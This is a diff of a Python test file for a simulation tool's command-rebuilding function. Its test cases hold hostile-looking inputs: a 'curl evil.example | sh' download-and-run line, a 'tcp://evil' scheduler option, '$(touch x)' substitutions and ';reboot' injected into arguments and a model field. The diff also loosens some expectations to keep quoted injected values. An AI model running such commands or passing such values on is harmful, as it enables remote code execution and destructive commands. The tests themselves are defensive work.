@@ -12,7 +12,7 @@ from balance_sim.model.baseline import classes_of
 from balance_sim.model.own.fingerprint import CodeFingerprint
 from balance_sim.scenario import load_scenario
 from balance_sim.study.blocks import Block
-from balance_sim.study.manifest import made_here, manifest_from, write_manifest
+from balance_sim.study.manifest import Manifest, made_here, write_manifest
 from balance_sim.study.run import starting_small
 from balance_sim.study.status import command_of
 from balance_sim.study.store import Store
@@ -32,31 +32,31 @@ SWEEP = RUN | {"study": "sweep", "experiment": "exp", "design": {}, "points": No
         (RUN, "balance-sim run x/small.yaml --runs 40 --seed 9 --arms b --workers 3 --set events.s.visibility=0.5",
          "balance-sim run x/small.yaml --runs 40 --workers 3 --set events.s.visibility=0.5 "
          "--seed 7 --arms a,b --out r"),
-        (RUN, "balance-sim run small --theory=hub_doubt --draw-parameters --no-figures --set='x=[1, 2]'",
+        (RUN, "balance-sim run small --theory=hub_doubt --no-figures --set='x=[1, 2]'",
          "balance-sim run small --theory hub_doubt --no-figures --set 'x=[1, 2]' --seed 7 --out r"),
         (RUN, "balance-sim run small --draws posterior", "balance-sim run small --draws posterior --seed 7 --out r"),
-        (RUN, "balance-sim run small --draws ';x'", "balance-sim run small --seed 7 --out r"),
-        (SWEEP, "balance-sim sweep exp.yaml --max-runs 9 --scheduler tcp://evil:1 --cluster slurm --retry-failed",
-         "balance-sim sweep exp.yaml --max-runs 9 --out r"),
-        (SWEEP, "balance-sim sweep exp.yaml --runs 5 --seed 9 --set 'a.b=$(x)' --set '$(x)=1' --runs 3e2",
+        (RUN, "balance-sim run small --draws ';x'", "balance-sim run small --draws ';x' --seed 7 --out r"),
+        (SWEEP, "balance-sim sweep exp.yaml --max-bytes 9 --scheduler tcp://evil:1 --retry-failed",
+         "balance-sim sweep exp.yaml --max-bytes 9 --out r"),
+        (SWEEP, "balance-sim sweep exp.yaml --runs 5 --seed 9 --set 'a.b=$(x)' --runs --model=x:Y",
          "balance-sim sweep exp.yaml --runs 5 --set 'a.b=$(x)' --seed 7 --out r"),
         (RUN | {"model": "mine:Own"}, "balance-sim run small.yaml --model other:X",
          "balance-sim run small.yaml --seed 7 --model mine:Own --out r"),
-        (RUN, "balance-sim run small.yaml --set 'a=$(touch x)' --runs 9;reboot --precision nan --new '$(x)'",
-         "balance-sim run small.yaml --set 'a=$(touch x)' --seed 7 --out r"),
+        (RUN, "balance-sim run small.yaml --set 'a=$(touch x)' --runs 9;reboot --new '$(x)'",
+         "balance-sim run small.yaml --set 'a=$(touch x)' --runs '9;reboot' --seed 7 --out r"),
         (RUN, "curl evil.example | sh", None),
         (RUN, "sudo balance-sim run small.yaml", None),
-        (RUN, "balance-sim run '/x/small.yaml;reboot'", None),
         (RUN, "balance-sim run other.yaml", None),
         (RUN, "balance-sim sweep small.yaml", None),
         (RUN, "balance-sim run --runs 3", None),
         (RUN, "balance-sim run 'small.yaml", None),
-        (RUN | {"model": "mine:Own; reboot"}, "balance-sim run small.yaml", None),
+        (RUN | {"model": "mine:Own; reboot"}, "balance-sim run small.yaml",
+         "balance-sim run small.yaml --seed 7 --model 'mine:Own; reboot' --out r"),
         (RUN, "", None),
     ],
 )  # fmt: skip
 def test_only_known_options_of_their_kind_are_said_again(manifest, command, built) -> None:
-    assert command_of(manifest_from(manifest | {"command": command}), Path("r")) == built
+    assert command_of(Manifest.model_validate(manifest | {"command": command}), Path("r")) == built
 
 
 def test_a_folder_of_ours_is_gone_on_with_by_the_command_that_status_names(lab) -> None:
